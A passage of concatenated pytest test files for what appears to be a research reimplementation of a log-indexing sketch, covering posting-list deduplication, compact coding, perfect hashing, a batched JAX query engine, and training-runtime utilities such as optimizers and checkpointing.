                zlib.crc32(fn.__qualname__.encode()))
            # boundary examples first (hypothesis-style shrink targets),
            # then seeded random draws
            boundaries = [s.boundary() for s in strats]
            for combo in itertools.islice(itertools.product(
                    *[b for b in boundaries if b]), 4):
                if len(combo) == len(strats):
                    fn(*args, *combo, **kwargs)
            for _ in range(n_examples):
                drawn = [s.draw(rng) for s in strats]
                fn(*args, *drawn, **kwargs)

        # hide the strategy-bound (trailing) parameters from pytest's
        # fixture resolution, like real hypothesis does
        sig = inspect.signature(fn)
        params = list(sig.parameters.values())
        wrapper.__signature__ = sig.replace(
            parameters=params[:len(params) - len(strats)])
        if hasattr(wrapper, "__wrapped__"):
            del wrapper.__wrapped__
        return wrapper
    return deco
