"""Mutable sketch (Alg. 1/2 online dedup), batch builder equivalence,
BIC/CSF coding, MPHF, immutable sketch guarantees."""
import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

import jax.numpy as jnp

from repro.core.batch_builder import build_sealed
from repro.core.bic import bic_encode, bic_decode, decode_list, encode_lists
from repro.core.bitio import BitReader, BitWriter
from repro.core.csf import build_csf
from repro.core.hashing import postings_hash
from repro.core.immutable_sketch import build_immutable
from repro.core.mphf import build_mphf
from repro.core.mutable_sketch import MutableSketch
from repro.core.postings import PostingList
from repro.core.segment import SegmentWriter, merge_sealed


# --------------------------------------------------------------- postings
@given(st.sets(st.integers(0, 4095), min_size=1, max_size=200))
@settings(max_examples=40, deadline=None)
def test_posting_list_short_long_transition(postings):
    pl = PostingList(threshold=16)
    for p in postings:
        pl.add(p)
        pl.add(p)  # repeated insert must be a no-op (paper §3.2)
    got = np.asarray(sorted(postings))
    np.testing.assert_array_equal(pl.postings(), got)
    assert len(pl) == len(postings)


# ------------------------------------------------------------- mutable
def _random_corpus(rng, n_tokens=300, n_postings=24, n_pairs=2000):
    fps = rng.integers(0, n_tokens, n_pairs).astype(np.uint32) * 2654435761
    posts = rng.integers(0, n_postings, n_pairs).astype(np.int64)
    return fps.astype(np.uint32), posts


def test_online_dedup_invariants():
    """After any insert sequence: tokens with identical posting sets share
    ONE posting list (the paper's >88% list dedup) — i.e. the sealed
    content has exactly as many lists as there are distinct posting sets.
    Few postings (6) guarantees set collisions across 300 tokens."""
    rng = np.random.default_rng(42)
    fps, posts = _random_corpus(rng, n_postings=6)
    sk = MutableSketch()
    for f, p in zip(fps, posts):
        sk.add_fingerprint(int(f), int(p))
    by_set = {}
    for f in np.unique(fps):
        got = sk.acquire_postings(int(f))
        assert got is not None
        by_set.setdefault(tuple(got.tolist()), set()).add(int(f))
    sealed = sk.seal()
    lists = sealed.canonical_lists()
    assert len(lists) == len(by_set)
    # dedup must be substantial on a Zipf-ish corpus
    assert len(lists) < len(np.unique(fps))


def test_online_equals_batch_builder(rng):
    """Property: the faithful Alg.1/2 mutable sketch and the TPU-idiomatic
    sort-based batch builder produce identical sealed content."""
    for trial in range(5):
        fps, posts = _random_corpus(np.random.default_rng(trial))
        sk = MutableSketch()
        for f, p in zip(fps, posts):
            sk.add_fingerprint(int(f), int(p))
        sealed_online = sk.seal()
        sealed_batch = build_sealed(fps, posts)
        assert (sorted(sealed_online.canonical_lists())
                == sorted(sealed_batch.canonical_lists()))


def test_lookup_map_collision_handling():
    """Alg. 1/2: lists colliding on the postings hash stay retrievable
    after inserts AND removals."""
    sk = MutableSketch()
    # craft tokens sharing posting sets to force reference churn
    for f in range(50):
        sk.add_fingerprint(f, 0)
    for f in range(25):
        sk.add_fingerprint(f, 1)   # half the tokens move to {0,1}
    for f in range(50):
        got = set(sk.acquire_postings(f).tolist())
        assert got == ({0, 1} if f < 25 else {0})


def test_segment_spill_merge_equivalence(rng):
    fps, posts = _random_corpus(rng, n_pairs=9000)
    w = SegmentWriter(memory_limit_bytes=1 << 12)  # force many spills
    for f, p in zip(fps, posts):
        w.add_fingerprints(np.asarray([f], np.uint32), int(p))
    spilled = w.finish()
    assert w.n_spills > 0  # the tiny memory limit must have forced spills
    direct = build_immutable(build_sealed(fps, posts))
    for f in np.unique(fps)[:100]:
        pres_a, rank_a = spilled.probe_fingerprints_np(
            np.asarray([f], np.uint32))
        pres_b, rank_b = direct.probe_fingerprints_np(
            np.asarray([f], np.uint32))
        assert pres_a[0] and pres_b[0]
        np.testing.assert_array_equal(
            spilled.postings_for_rank(int(rank_a[0])),
            direct.postings_for_rank(int(rank_b[0])))


# ------------------------------------------------------------------ BIC
@given(st.sets(st.integers(0, 2**15), min_size=1, max_size=300))
@settings(max_examples=40, deadline=None)
def test_bic_roundtrip(postings):
    arr = np.asarray(sorted(postings), np.int64)
    hi = int(arr.max()) + 1
    w = BitWriter()
    bic_encode(arr, 0, hi, w)
    out = bic_decode(len(arr), 0, hi, BitReader(w.array()))
    np.testing.assert_array_equal(out, arr)


def test_bic_encode_lists_offsets(rng):
    lists = [np.unique(rng.integers(0, 512, rng.integers(1, 60)))
             for _ in range(30)]
    bitseq, offsets, counts = encode_lists(lists, 512)
    for i, l in enumerate(lists):
        np.testing.assert_array_equal(
            decode_list(bitseq, offsets, counts, i, 512), l)


# ------------------------------------------------------------------ CSF
@given(st.lists(st.integers(0, 50), min_size=1, max_size=400))
@settings(max_examples=30, deadline=None)
def test_csf_roundtrip(values):
    vals = np.asarray(values, np.int64)
    csf = build_csf(vals)
    np.testing.assert_array_equal(csf.get_np(np.arange(len(vals))), vals)
    # jnp path agrees
    got = np.asarray(csf.get_jnp(jnp.arange(len(vals))))
    np.testing.assert_array_equal(got, vals)


def test_csf_skew_compresses_better_than_uniform():
    """Frequency-ranked coding (§3.3): the most common value gets rank 0
    (1 bit), so a skewed distribution encodes smaller than a uniform one
    over the same number of keys."""
    from repro.core.csf import code_length
    assert code_length(np.asarray([0]))[0] == 1
    assert code_length(np.asarray([1]))[0] == 1
    assert code_length(np.asarray([2]))[0] == 2
    skew = np.asarray([7] * 500 + [3] * 20 + [9] * 2, np.int64)
    uni = np.arange(522, dtype=np.int64) % 64
    assert build_csf(skew).size_bits() < build_csf(uni).size_bits()


# ----------------------------------------------------------------- MPHF
@given(st.sets(st.integers(0, 2**32 - 1), min_size=1, max_size=2000))
@settings(max_examples=15, deadline=None)
def test_mphf_minimal_injective(keys):
    keys = np.asarray(sorted(keys), np.uint32)
    m = build_mphf(keys)
    idx, absent = m.lookup_np(keys)
    assert not absent.any()
    np.testing.assert_array_equal(np.sort(idx), np.arange(len(keys)))


def test_mphf_np_vs_jnp(rng):
    keys = np.unique(rng.integers(0, 2**32, 4000, dtype=np.uint64)
                     .astype(np.uint32))
    m = build_mphf(keys)
    q = np.concatenate([keys[:500],
                        rng.integers(0, 2**32, 500, dtype=np.uint64)
                        .astype(np.uint32)])
    a_i, a_a = m.lookup_np(q)
    b_i, b_a = m.lookup_jnp(jnp.asarray(q))
    np.testing.assert_array_equal(a_a, np.asarray(b_a))
    np.testing.assert_array_equal(a_i[~a_a], np.asarray(b_i)[~a_a])


# ------------------------------------------------------- immutable sketch
def test_immutable_zero_false_negatives(rng):
    fps, posts = _random_corpus(rng, n_pairs=4000)
    sk = build_immutable(build_sealed(fps, posts), sig_bits=8)
    for f in np.unique(fps):
        truth = np.unique(posts[fps == f])
        present, rank = sk.probe_fingerprints_np(
            np.asarray([f], np.uint32))
        assert present[0], "false negative!"
        np.testing.assert_array_equal(
            sk.postings_for_rank(int(rank[0])), truth)


def test_immutable_fp_rate_matches_signature_bits(rng):
    """FP rate for unseen tokens ~= 2^-b (paper §3.3)."""
    fps, posts = _random_corpus(rng, n_pairs=4000)
    sk = build_immutable(build_sealed(fps, posts), sig_bits=8)
    probe = rng.integers(0, 2**32, 20000, dtype=np.uint64).astype(np.uint32)
    probe = probe[~np.isin(probe, fps)]
    present, _ = sk.probe_fingerprints_np(probe)
    fp_rate = present.mean()
    assert fp_rate < 4 * 2**-8, fp_rate  # loose 4x bound on 2^-8


def test_immutable_jnp_probe_agrees(rng):
    fps, posts = _random_corpus(rng)
    sk = build_immutable(build_sealed(fps, posts), sig_bits=8)
    q = np.unique(fps)[:200]
    a_p, a_r = sk.probe_fingerprints_np(q)
    b_p, b_r = sk.probe_fingerprints_jnp(jnp.asarray(q))
    np.testing.assert_array_equal(a_p, np.asarray(b_p))
    np.testing.assert_array_equal(a_r[a_p], np.asarray(b_r)[a_p])


def test_device_batched_query_equals_host(rng):
    """Beyond-paper device query engine == host Alg. 3 (AND/OR)."""
    from repro.core.device_query import batched_query, bitmap_to_postings
    from repro.core.query import query_and, query_or
    fps, posts = _random_corpus(rng, n_pairs=4000)
    sk = build_immutable(build_sealed(fps, posts), sig_bits=8,
                         plane_budget_bytes=64 << 20)
    assert sk.planes is not None
    uniq = np.unique(fps)
    # build 16 queries of 3 tokens each (mix of present and absent)
    q = np.stack([np.concatenate([uniq[i:i + 2],
                                  [rng.integers(0, 2**32, dtype=np.uint64)
                                   .astype(np.uint32)]])
                  for i in range(0, 32, 2)]).astype(np.uint32)
    bm_and, cnt_and = batched_query(sk, q, op="and")
    bm_or, cnt_or = batched_query(sk, q, op="or")
    for i in range(q.shape[0]):
        want_and = query_and(sk, [int(x) for x in q[i]])
        want_or = query_or(sk, [int(x) for x in q[i]])
        got_and = bitmap_to_postings(np.asarray(bm_and[i]), sk.n_postings)
        got_or = bitmap_to_postings(np.asarray(bm_or[i]), sk.n_postings)
        np.testing.assert_array_equal(got_and, want_and)
        np.testing.assert_array_equal(got_or, want_or)
        assert int(cnt_and[i]) == len(want_and)
        assert int(cnt_or[i]) == len(want_or)


def test_bic_subbit_compression_on_clusters():
    """Paper §4.2: BIC approaches <1 bit/posting on clustered lists."""
    runs = np.concatenate([np.arange(s, s + 400)
                           for s in (0, 1000, 5000)])
    w = BitWriter()
    bic_encode(runs, 0, 6000, w)
    bits = w.bitpos
    assert bits / len(runs) < 1.5, bits / len(runs)
    out = bic_decode(len(runs), 0, 6000, BitReader(w.array()))
    np.testing.assert_array_equal(out, runs)
