"""Columnar batch ingest: vectorized tokenize -> fingerprint -> group
sealing must be bit-identical to the seed per-line loop, and the partial
tail batch must flush deterministically on finish() — compaction pending
or not."""
import numpy as np
import pytest

from repro.core.batch_builder import (LineFingerprinter, build_sealed,
                                      fingerprint_lines_columnar,
                                      fingerprint_tokens)
from repro.core.hashing import token_fingerprint
from repro.core.mutable_sketch import MutableSketch
from repro.core.segment import SegmentWriter
from repro.core.tokenizer import (MAX_TOKEN_BYTES, pack_tokens,
                                  pack_tokens_batch, tokenize_line)
from repro.logstore.store import DynaWarpStore, ScanStore

TRICKY_LINES = [
    "", "   ", "héllo wörld ütf8 ☃☃☃ test", "a.b.c x-y 1.2.3.4", "!@#$%",
    "x" * 200, "Kelvin test", "a.b.c.d.e", "x-y_z/w@v:u", ".", "..",
    "a..b", "a.b-c.d", "GET /api/v1/users/abcdef HTTP/1.1 200 123",
    "\tmixed\twhite  space ",
]


# --------------------------------------------------------- token packing
def test_pack_tokens_batch_matches_scalar():
    toks = [b"hello", b"x", b"", b"a" * 100, bytes(range(200)), b"wor!d"]
    m1, l1 = pack_tokens(toks)
    m2, l2 = pack_tokens_batch(toks)
    np.testing.assert_array_equal(m1, m2)
    np.testing.assert_array_equal(l1, l2)


def test_fingerprint_tokens_matches_scalar():
    toks = [b"hello", b"", b"a" * 100, b"1.2.3.4", bytes(range(256))]
    got = fingerprint_tokens(toks)
    want = np.asarray([token_fingerprint(t[:MAX_TOKEN_BYTES])
                       for t in toks], np.uint32)
    np.testing.assert_array_equal(got, want)


# ----------------------------------------------------- line fingerprints
@pytest.mark.parametrize("ngrams", [True, False])
def test_line_fingerprinter_matches_tokenize_line(small_dataset, ngrams):
    """Per-line unique fingerprints from the columnar pipeline (flat-blob
    ASCII path + non-ASCII fallback) == the scalar tokenize + hash path."""
    lines = small_dataset.lines[:300] + TRICKY_LINES
    lf = LineFingerprinter(ngrams=ngrams)
    flat, lens = lf.fingerprint_lines(lines)
    off = 0
    for ln, n in zip(lines, lens):
        toks = tokenize_line(ln, ngrams=ngrams)
        want = np.unique(np.fromiter(
            (token_fingerprint(t) for t in toks), np.uint64,
            len(toks)).astype(np.uint32))
        np.testing.assert_array_equal(np.sort(flat[off:off + int(n)]),
                                      want, err_msg=repr(ln))
        off += int(n)
    # cache hits return the identical arrays
    flat2, lens2 = lf.fingerprint_lines(lines)
    np.testing.assert_array_equal(flat, flat2)
    np.testing.assert_array_equal(lens, lens2)


def test_fingerprint_lines_columnar_tricky():
    chunks = fingerprint_lines_columnar(TRICKY_LINES, ngrams=True)
    assert len(chunks) == len(TRICKY_LINES)
    for ln, chunk in zip(TRICKY_LINES, chunks):
        toks = tokenize_line(ln, ngrams=True)
        want = np.unique(np.fromiter(
            (token_fingerprint(t) for t in toks), np.uint64,
            len(toks)).astype(np.uint32))
        np.testing.assert_array_equal(np.sort(chunk), want,
                                      err_msg=repr(ln))


# ------------------------------------------------- vectorized build_sealed
def test_build_sealed_identical_to_online_sketch(rng):
    """The lexsort-dedup step 4 must keep build_sealed's output identical
    (fps, list ids, refcounts, list contents) to MutableSketch.seal()."""
    for trial in range(4):
        r = np.random.default_rng(trial)
        fps = (r.integers(0, 200, 3000).astype(np.uint64)
               * 2654435761 % (1 << 32)).astype(np.uint32)
        posts = r.integers(0, 16, 3000).astype(np.int64)
        sk = MutableSketch()
        for f, p in zip(fps, posts):
            sk.add_fingerprint(int(f), int(p))
        a, b = sk.seal(), build_sealed(fps, posts)
        np.testing.assert_array_equal(a.fps, b.fps)
        np.testing.assert_array_equal(a.list_ids, b.list_ids)
        np.testing.assert_array_equal(a.refcounts, b.refcounts)
        assert a.canonical_lists() == b.canonical_lists()
        assert a.n_postings == b.n_postings


# --------------------------------------------------------- store columnar
def test_columnar_store_matches_line_loop(small_dataset):
    from repro.logstore.datasets import present_id_queries
    scan = ScanStore(batch_lines=64)
    col = DynaWarpStore(batch_lines=64, columnar=True)
    loop = DynaWarpStore(batch_lines=64, columnar=False)
    for s in (scan, col, loop):
        s.ingest(small_dataset.lines)
        s.finish()
    queries = present_id_queries(small_dataset, 5, 6) + ["info", "gc"]
    for t in queries:
        truth = scan.query_term(t).matches
        assert col.query_term(t).matches == truth, t
        assert loop.query_term(t).matches == truth, t
        sub = t[2:10]
        assert (col.query_contains(sub).matches
                == scan.query_contains(sub).matches), sub


def test_columnar_segmented_writer_spills(small_dataset):
    s = DynaWarpStore(batch_lines=64, mode="segmented",
                      memory_limit_bytes=1 << 15)
    s.ingest(small_dataset.lines)
    assert s._writer.n_spills > 0
    s.finish()
    scan = ScanStore(batch_lines=64)
    scan.ingest(small_dataset.lines)
    scan.finish()
    assert s.query_term("info").matches == scan.query_term("info").matches


def test_segment_writer_columnar_equals_scalar(rng):
    """add_fingerprint_batch (columnar buffers) and add_fingerprints
    (scalar overflow sketch) seal to equivalent immutable sketches."""
    fps = (rng.integers(0, 300, 4000).astype(np.uint64)
           * 2654435761 % (1 << 32)).astype(np.uint32)
    posts = rng.integers(0, 24, 4000).astype(np.int64)
    a = SegmentWriter(memory_limit_bytes=1 << 13)
    b = SegmentWriter(memory_limit_bytes=1 << 13)
    for i in range(0, len(fps), 500):
        a.add_fingerprint_batch(fps[i:i + 500], posts[i:i + 500])
    for f, p in zip(fps, posts):
        b.add_fingerprints(np.asarray([f], np.uint32), int(p))
    sa, sb = a.finish(), b.finish()
    for f in np.unique(fps)[:200]:
        pa, ra = sa.probe_fingerprints_np(np.asarray([f], np.uint32))
        pb, rb = sb.probe_fingerprints_np(np.asarray([f], np.uint32))
        assert pa[0] and pb[0]
        np.testing.assert_array_equal(sa.postings_for_rank(int(ra[0])),
                                      sb.postings_for_rank(int(rb[0])))


def test_segment_writer_finish_is_idempotent(rng):
    """A second finish()/finish_segments() must see the identical content
    — live buffers below the spill threshold are sealed into the
    temporaries, not drained and dropped."""
    fps = (rng.integers(0, 100, 500).astype(np.uint64)
           * 2654435761 % (1 << 32)).astype(np.uint32)
    posts = rng.integers(0, 8, 500).astype(np.int64)
    w = SegmentWriter()  # large limit: nothing ever spills
    w.add_fingerprint_batch(fps, posts)
    a = w.finish()
    assert a.n_tokens > 0
    b = w.finish()
    segs = w.finish_segments()
    assert b.n_tokens == a.n_tokens
    assert sum(s.n_tokens for s in segs) == a.n_tokens
    f = int(np.unique(fps)[0])
    pa, ra = a.probe_fingerprints_np(np.asarray([f], np.uint32))
    pb, rb = b.probe_fingerprints_np(np.asarray([f], np.uint32))
    assert pa[0] and pb[0]
    np.testing.assert_array_equal(a.postings_for_rank(int(ra[0])),
                                  b.postings_for_rank(int(rb[0])))


def test_store_finish_is_idempotent(small_dataset):
    """finish() twice must not rebuild (or empty) the sealed index in any
    mode — batch mode used to lose everything on the second call."""
    for mode in ("batch", "segmented"):
        s = DynaWarpStore(batch_lines=64, mode=mode)
        s.ingest(small_dataset.lines[:300])
        s.finish()
        want = s.query_term("info").matches
        assert want
        s.finish()
        assert s.query_term("info").matches == want, mode


def test_ngram_bucketing_handles_pathological_runs():
    """One huge run must not break (or bloat) the batch: power-of-two
    width buckets keep other runs packed narrow, results stay exact."""
    lines = ["short a1b2 line", "x " + "a1b2" * 5000 + " y", "-" * 2000]
    chunks = fingerprint_lines_columnar(lines, ngrams=True)
    for ln, chunk in zip(lines, chunks):
        toks = tokenize_line(ln, ngrams=True)
        want = np.unique(np.fromiter(
            (token_fingerprint(t) for t in toks), np.uint64,
            len(toks)).astype(np.uint32))
        np.testing.assert_array_equal(np.sort(chunk), want)


# ----------------------------------------------------- partial tail flush
def test_partial_batch_flushes_on_finish_with_pending_compaction(
        small_dataset):
    """Regression (ISSUE 2 satellite): finish() must index + flush the
    partially filled tail batch deterministically even when a compaction
    is pending."""
    lines = small_dataset.lines[:100]  # 64-line batch + 36-line tail
    scan = ScanStore(batch_lines=64)
    scan.ingest(lines)
    scan.finish()
    stores = []
    for _ in range(2):
        s = DynaWarpStore(batch_lines=64, mode="segmented",
                          memory_limit_bytes=1 << 15)
        s.ingest(lines)
        s.request_compact()
        s.finish()
        stores.append(s)
    a, b = stores
    assert a.n_batches == b.n_batches == 2
    assert not a._compact_pending and not b._compact_pending
    # deterministic: identical blobs, boundaries, and results
    assert a.blobs == b.blobs
    assert a.batch_start == b.batch_start
    for t in ("info", "gc", "connection"):
        truth = scan.query_term(t).matches
        assert a.query_term(t).matches == truth, t
        assert b.query_term(t).matches == truth, t
