"""Batched device query engine: bit-exact equivalence with the host
Alg. 3 loop, one-upload-per-segment device caching, one-compile-per-
bucket-shape jit behaviour, and multi-segment / plane-less fan-out."""
import numpy as np
import pytest

from repro.core.batch_builder import build_sealed
from repro.core.immutable_sketch import ImmutableSketch, build_immutable
from repro.core.query import query_and, query_or
from repro.core.query_engine import QueryEngine
from repro.core.segment import SegmentWriter


def _corpus(seed, n_tokens=250, n_postings=48, n_pairs=3000):
    rng = np.random.default_rng(seed)
    fps = (rng.integers(0, n_tokens, n_pairs).astype(np.uint64)
           * 2654435761 % (1 << 32)).astype(np.uint32)
    posts = rng.integers(0, n_postings, n_pairs).astype(np.int64)
    return rng, fps, posts


def _random_queries(rng, uniq, n=24, t_max=6):
    """Mix of present tokens, absent tokens, and empty queries."""
    queries = [[]]
    for _ in range(n):
        t = int(rng.integers(1, t_max + 1))
        q = [int(x) for x in rng.choice(uniq, size=min(t, len(uniq)),
                                        replace=False)]
        if rng.random() < 0.4:  # inject an absent fingerprint
            q[rng.integers(0, len(q))] = int(rng.integers(0, 2**32))
        queries.append(q)
    return queries


# -------------------------------------------------------------- equivalence
@pytest.mark.parametrize("seed", [0, 2])
def test_engine_matches_host_single_segment(seed):
    rng, fps, posts = _corpus(seed)
    sk = build_immutable(build_sealed(fps, posts))
    eng = QueryEngine([sk])
    queries = _random_queries(rng, np.unique(fps))
    for op, ref in (("and", query_and), ("or", query_or)):
        got = eng.query_fps_batch(queries, op=op)
        for q, g in zip(queries, got):
            want = ref(sk, q) if q else np.empty(0, np.int64)
            np.testing.assert_array_equal(g, want), (op, q)


@pytest.mark.parametrize("plane_budget", [64 << 20, 0])
def test_engine_matches_host_multi_segment(plane_budget):
    """Per-spill segments (with and without bitmap planes) OR their
    per-token bitmaps; results equal the same-segment host oracle."""
    rng, fps, posts = _corpus(7, n_pairs=6000, n_postings=60)
    w = SegmentWriter(memory_limit_bytes=1 << 12,
                      plane_budget_bytes=plane_budget)
    for f, p in zip(fps, posts):
        w.add_fingerprints(np.asarray([f], np.uint32), int(p))
    segs = w.finish_segments()
    assert len(segs) > 1, "corpus must spill into multiple segments"
    if plane_budget == 0:
        assert all(s.planes is None for s in segs)
    eng = QueryEngine(segs, n_postings=60)
    queries = _random_queries(rng, np.unique(fps), n=20)
    for op in ("and", "or"):
        got = eng.query_fps_batch(queries, op=op)
        for q, g in zip(queries, got):
            np.testing.assert_array_equal(g, eng.host_query(q, op=op))


def test_multi_segment_union_equals_monolithic_for_present_tokens():
    """For construction-set tokens (no signature false positives) the
    fan-out result must equal the merged monolithic sketch's result."""
    rng, fps, posts = _corpus(11, n_pairs=5000)
    w = SegmentWriter(memory_limit_bytes=1 << 12)
    for f, p in zip(fps, posts):
        w.add_fingerprints(np.asarray([f], np.uint32), int(p))
    segs = w.finish_segments()
    assert len(segs) > 1
    mono = build_immutable(build_sealed(fps, posts))
    eng = QueryEngine(segs, n_postings=mono.n_postings)
    uniq = np.unique(fps)
    queries = [[int(x) for x in rng.choice(uniq, 3, replace=False)]
               for _ in range(16)]
    for op, ref in (("and", query_and), ("or", query_or)):
        got = eng.query_fps_batch(queries, op=op)
        for q, g in zip(queries, got):
            np.testing.assert_array_equal(g, ref(mono, q))


# ------------------------------------------------------------ device cache
def test_one_device_upload_per_segment(monkeypatch):
    _, fps, posts = _corpus(3)
    sk = build_immutable(build_sealed(fps, posts))
    calls = {"n": 0}
    orig = ImmutableSketch.device_arrays

    def counting(self):
        calls["n"] += 1
        return orig(self)

    monkeypatch.setattr(ImmutableSketch, "device_arrays", counting)
    eng = QueryEngine([sk])
    uniq = np.unique(fps)
    for _ in range(5):  # many waves, several shapes
        eng.query_fps_batch([[int(uniq[0])], [int(uniq[1]), int(uniq[2])]])
        eng.query_fps_batch([[int(x) for x in uniq[:5]]], op="or")
    assert calls["n"] == 1, "segment arrays must upload exactly once"
    assert eng.upload_count == 1

    # a second engine over the same sketch reuses the process-wide cache
    eng2 = QueryEngine([sk])
    eng2.query_fps_batch([[int(uniq[0])]])
    assert calls["n"] == 1


# ---------------------------------------------------------------- jit cache
def test_one_compile_per_bucket_shape():
    _, fps, posts = _corpus(4)
    sk = build_immutable(build_sealed(fps, posts))
    eng = QueryEngine([sk])
    uniq = [int(x) for x in np.unique(fps)[:40]]

    eng.query_fps_batch([uniq[:1]])          # bucket (8, 1)
    base = eng.compile_count
    assert base > 0
    for _ in range(4):                       # same bucket -> no retrace
        eng.query_fps_batch([uniq[1:2], uniq[2:3]])
    assert eng.compile_count == base

    eng.query_fps_batch([uniq[:3]])          # bucket (8, 4): +probe +reduce
    grown = eng.compile_count
    assert grown == base + 2
    for _ in range(3):
        eng.query_fps_batch([uniq[3:6], uniq[6:9]])
    assert eng.compile_count == grown


# ------------------------------------------------------------- store level
def test_segmented_store_equals_batch_store(small_dataset):
    from repro.logstore.datasets import present_id_queries
    from repro.logstore.store import DynaWarpStore
    a = DynaWarpStore(batch_lines=64, mode="batch")
    b = DynaWarpStore(batch_lines=64, mode="segmented",
                      memory_limit_bytes=1 << 16)
    for s in (a, b):
        s.ingest(small_dataset.lines)
        s.finish()
    assert len(b.segments) > 1, "segmented store must keep spills"
    queries = present_id_queries(small_dataset, 3, 6) + ["info", "gc"]
    for t in queries:
        assert a.query_term(t).matches == b.query_term(t).matches, t
        assert (a.query_contains(t[2:10]).matches
                == b.query_contains(t[2:10]).matches), t


def test_store_batch_api_matches_sequential(small_dataset):
    from repro.logstore.datasets import id_queries, present_id_queries
    from repro.logstore.store import DynaWarpStore
    s = DynaWarpStore(batch_lines=64)
    s.ingest(small_dataset.lines)
    s.finish()
    terms = present_id_queries(small_dataset, 5, 4) + id_queries(13, 4)
    batch = s.query_term_batch(terms)
    for t, r in zip(terms, batch):
        seq = s.query_term(t)
        assert r.matches == seq.matches
        np.testing.assert_array_equal(np.sort(r.candidate_batches),
                                      np.sort(seq.candidate_batches))


def test_store_device_query_off_matches_on(small_dataset):
    from repro.logstore.datasets import present_id_queries
    from repro.logstore.store import DynaWarpStore
    on = DynaWarpStore(batch_lines=64, device_query=True)
    off = DynaWarpStore(batch_lines=64, device_query=False)
    for s in (on, off):
        s.ingest(small_dataset.lines)
        s.finish()
    assert on.engine is not None and off.engine is None
    for t in present_id_queries(small_dataset, 9, 5):
        np.testing.assert_array_equal(np.sort(on.candidates_term(t)),
                                      np.sort(off.candidates_term(t)))
