"""Runtime substrate: optimizers, gradient compression, checkpointing,
elastic re-meshing, straggler detection, distributed sketch probe, and
the dry-run helpers."""
import os

import numpy as np
import pytest

import jax
import jax.numpy as jnp


# ------------------------------------------------------------- optimizers
def _quad_losses(update_fn, init_fn, cfg, steps=120):
    target = jnp.asarray([1.0, -2.0, 0.5])
    params = {"w": jnp.zeros((3, 1), jnp.float32),
              "b": jnp.zeros((3,), jnp.float32)}
    state = init_fn(params)

    def loss(p):
        return jnp.sum((p["w"][:, 0] + p["b"] - target) ** 2)

    losses = []
    for _ in range(steps):
        g = jax.grad(loss)(params)
        params, state, _ = update_fn(cfg, params, g, state)
        losses.append(float(loss(params)))
    return losses


def test_adamw_converges():
    from repro.optim.adam import AdamConfig, adam_update, init_adam
    losses = _quad_losses(adam_update, init_adam,
                          AdamConfig(lr=5e-2, warmup_steps=1))
    assert losses[-1] < 1e-2 * losses[0]


def test_adafactor_converges():
    from repro.optim.adafactor import (AdafactorConfig, adafactor_update,
                                       init_adafactor)
    cfg = AdafactorConfig(lr=5e-2, warmup_steps=1, mu_dtype="float32")
    losses = _quad_losses(adafactor_update,
                          lambda p: init_adafactor(cfg, p), cfg)
    assert losses[-1] < 5e-2 * losses[0]


def test_adafactor_state_is_factored():
    from repro.optim.adafactor import AdafactorConfig, init_adafactor
    p = {"w": jnp.zeros((64, 32)), "e": jnp.zeros((8, 16, 24))}
    st = init_adafactor(AdafactorConfig(), p)
    assert st.vr["w"].shape == (64,)
    assert st.vc["w"].shape == (32,)
    assert st.vr["e"].shape == (8, 16)
    assert st.vc["e"].shape == (8, 24)
    # bf16 first moment: 2 bytes/param instead of 8 for Adam
    assert st.mu["w"].dtype == jnp.bfloat16


# ------------------------------------------------------------ compression
def test_error_feedback_quantization_unbiased():
    """Accumulated dequantized grads track accumulated true grads — the
    error-feedback guarantee."""
    from repro.optim.compress import (dequantize_int8,
                                      quantize_with_feedback)
    rng = np.random.default_rng(0)
    err = jnp.zeros((256,), jnp.float32)
    total_true = np.zeros(256)
    total_sent = np.zeros(256)
    for step in range(50):
        g = jnp.asarray(rng.normal(size=256) * (1 + step % 5), jnp.float32)
        q, scale, err = quantize_with_feedback(g, err)
        total_true += np.asarray(g)
        total_sent += np.asarray(dequantize_int8(q, scale))
    # residual bounded by one quantization step, not growing with steps
    resid = np.abs(total_true - total_sent).max()
    assert resid <= float(np.abs(np.asarray(err)).max()) + 1e-4


def test_compressed_psum_shard_map():
    from repro.optim.compress import compressed_psum
    mesh = jax.make_mesh((1,), ("pod",))
    g = jnp.asarray(np.random.default_rng(1).normal(size=64), jnp.float32)
    err = jnp.zeros_like(g)
    from jax.sharding import PartitionSpec as P
    from repro import jax_compat
    with mesh, jax_compat.set_mesh(mesh):
        out, new_err = jax_compat.shard_map(
            lambda g, e: compressed_psum(g, e, "pod"),
            in_specs=(P(), P()), out_specs=(P(), P()),
            check_vma=False)(g, err)
    np.testing.assert_allclose(np.asarray(out + new_err), np.asarray(g),
                               atol=1e-4)


# ----------------------------------------------------------- checkpointing
def test_checkpoint_roundtrip_and_manifest(tmp_path):
    from repro.launch.checkpoint import CheckpointManager
    cm = CheckpointManager(str(tmp_path), keep_last=2)
    state = {"a": jnp.arange(10), "b": {"c": jnp.ones((3, 3))}}
    for step in (5, 10, 15):
        cm.save(step, jax.tree.map(lambda x: x * step, state),
                blocking=True)
    assert cm.latest_step() == 15
    restored, step = cm.restore(state)
    assert step == 15
    np.testing.assert_array_equal(np.asarray(restored["a"]),
                                  np.arange(10) * 15)
    # retention: only keep_last remain
    ckpts = [f for f in os.listdir(tmp_path) if f.endswith(".npz")]
    assert len(ckpts) == 2


def test_checkpoint_async_then_wait(tmp_path):
    from repro.launch.checkpoint import CheckpointManager
    cm = CheckpointManager(str(tmp_path))
    cm.save(1, {"x": jnp.ones(4)})
    cm.wait()
    assert cm.latest_step() == 1


# ----------------------------------------------------------------- elastic
def test_largest_mesh_after_failures():
    from repro.launch.elastic import largest_mesh_for
    assert largest_mesh_for(256, 16) == (16, 16)
    assert largest_mesh_for(255, 16) == (8, 16)   # lost a node: shrink DP
    assert largest_mesh_for(512, 16) == (32, 16)


def test_remesh_state_roundtrip():
    from jax.sharding import PartitionSpec as P
    from repro.launch.elastic import make_mesh_from_devices, remesh_state
    devs = jax.devices()
    mesh = make_mesh_from_devices(devs, (1, 1))
    state = {"w": np.arange(16.0).reshape(4, 4)}
    spec = {"w": P("data", None)}
    out = remesh_state(state, spec, mesh)
    np.testing.assert_array_equal(np.asarray(out["w"]), state["w"])


def test_straggler_monitor_flags():
    from repro.launch.elastic import StragglerMonitor
    m = StragglerMonitor(straggler_factor=3.0)
    for _ in range(10):
        assert not m.record(0.1)
    assert m.record(1.0)      # 10x median -> straggler
    assert m.flagged == 1


def test_health_state():
    from repro.launch.elastic import HealthState
    h = HealthState(8)
    h.fail(3)
    assert h.survivors() == 7


# ------------------------------------------------------------- distributed
def test_sharded_engine_smoke(rng):
